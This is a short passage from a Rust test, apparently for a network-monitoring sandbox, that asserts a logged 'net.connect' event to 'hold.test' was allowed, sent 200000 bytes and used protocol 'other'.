            let ev = event_for(&evs, "net.connect", "hold.test");
            assert_eq!(ev["decision"], "allow", "{ev}");
            assert_eq!(ev["bytes_up"], 200000, "{ev}");
            assert_eq!(ev["protocol"], "other", "{ev}");
        },
    );
}
